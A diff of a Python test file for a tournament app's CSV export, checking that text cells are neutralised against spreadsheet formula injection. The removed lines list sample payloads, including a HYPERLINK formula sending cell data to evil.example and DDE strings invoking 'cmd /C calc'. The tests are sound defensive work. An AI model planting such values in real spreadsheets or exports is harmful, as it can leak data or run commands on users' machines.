@@ -6,18 +6,10 @@ from __future__ import annotations
 import csv
 import io
 
-import pytest
-
-from tournament.extensions import db
-from tournament.services import draws as draw_service
-from tournament.services import ema, lifecycle, play, scoring
+from tests.helpers import FORMULAS
+from tournament.services import ema
 from tournament.services import registration as reg
 from tournament.services.csvfile import cell, csv_text
-from tournament.services.registration import PlayerData
-
-# What an outside probe registered as players: each would run in Excel or LibreOffice if written raw.
-FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
-            "-2+3", "=cmd|' /C calc'!A0"]
 
 
 def test_text_cells_are_neutralised_numbers_are_not():
@@ -29,26 +21,6 @@ def test_text_cells_are_neutralised_numbers_are_not():
     assert cell(None) == "" and cell(True) == "True"
     text = csv_text(["Name", "Score"], [["=1+1", -12], ["-12", 2.5]])
     assert text == "Name,Score\r\n'=1+1,-12\r\n'-12,2.5\r\n"
-
-
-@pytest.fixture
-def formula_players(tournament):
-    """8 players named like formulas, one session played by totals (negative scores), closed."""
-    tournament.session_count = 1
-    for i in range(8):
-        first = FORMULAS[i % len(FORMULAS)]
-        reg.check_in(reg.add_player(tournament, PlayerData(
-            first_name=first, last_name=f"@Last{i}" if i % 2 else f"Plain{i}", country="FI",
-            ema_number=f"0400{i:04d}", club="@Home club" if i == 0 else "", notes="-5 for lateness" if i == 0 else "")))
-    draw_service.draw_next(tournament, seed=3)
-    lifecycle.start_session(tournament, 1)
-    session = play.get_session(tournament, 1)
-    for table, scores in ((1, [30, 10, -15, -25]), (2, [40, -5, -5, -30])):
-        seated = [sp.player_id for sp in play.table_players(session, table)]
-        scoring.enter_totals(tournament, 1, table, dict(zip(seated, scores, strict=True)), None)
-    lifecycle.finish_session(tournament, 1)
-    db.session.commit()
-    return tournament
 
 
 def _risky(cells: list[str]) -> list[str]:
